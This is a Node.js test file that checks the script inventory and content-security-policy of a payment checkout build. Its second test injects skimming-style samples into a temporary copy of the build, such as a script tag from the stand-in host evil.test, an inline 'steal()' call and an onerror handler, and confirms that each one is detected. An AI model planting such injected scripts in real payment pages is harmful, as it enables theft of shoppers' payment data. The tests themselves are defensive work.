import assert from "node:assert/strict";
import {appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {test} from "node:test";
import {fileURLToPath} from "node:url";
import {keptInventory, makeInventory} from "../../build/inventory.ts";

const dist = fileURLToPath(new URL("../../dist", import.meta.url));

test("S6: the payment pages' scripts and headers are those of the inventory (npm run inventory writes it anew)", async () => {
  const inventory = await makeInventory(dist);
  assert.deepEqual(inventory, await keptInventory());
  for (const {headers, scripts} of inventory) {
    assert.ok(!Object.values(headers).includes("(missing)"));
    assert.match(headers["content-security-policy"] ?? "", /script-src 'nonce-\{nonce\}' 'strict-dynamic';/);
    // Only the service's own has no hash.
    assert.deepEqual(
      scripts.filter(({integrity}) => integrity === null).map(({address}) => address),
      ["{SDK_URL}/web-sdk/v6/core"],
    );
    assert.ok(scripts.length > 10);
  }
});

/** The inventory of a build that somebody has changed. */
async function changed(change: (folder: string) => void): Promise<unknown> {
  const folder = mkdtempSync(join(tmpdir(), "checkout-inventory-"));
  try {
    for (const part of ["cdn", "demo"]) cpSync(join(dist, part), join(folder, part), {recursive: true});
    change(folder);
    return await makeInventory(folder);
  } finally {
    rmSync(folder, {recursive: true});
  }
}

test("S6: whoever adds a script, or changes one, is found out", async () => {
  const page = (folder: string) => join(folder, "demo/checkout/index.html");
  const intoPage = (html: string) => (folder: string) =>
    writeFileSync(page(folder), readFileSync(page(folder), "utf8").replace("</head>", `${html}</head>`));
  const nonce = 'nonce="{{nonce}}"';
  await assert.rejects(
    changed(intoPage(`<script ${nonce} src="https://evil.test/x.js"></script>`)),
    /Nobody has written down/,
  );
  await assert.rejects(changed(intoPage('<script src="/shop.js"></script>')), /without the page's nonce/);
  await assert.rejects(changed(intoPage(`<script ${nonce}>steal()</script>`)), /written into the page/);
  await assert.rejects(changed(intoPage('<img src="x" onerror="steal()">')), /written into an attribute/);
  await assert.rejects(
    changed((folder) => appendFileSync(join(folder, "demo/shop.js"), '\nimport("https://evil.test/x.js");')),
    /Nobody has written down why https:\/\/evil/,
  );
  const other = await changed((folder) => appendFileSync(join(folder, "cdn/v1/checkout.js"), "\nsteal();"));
  assert.notDeepEqual(other, await keptInventory());
});
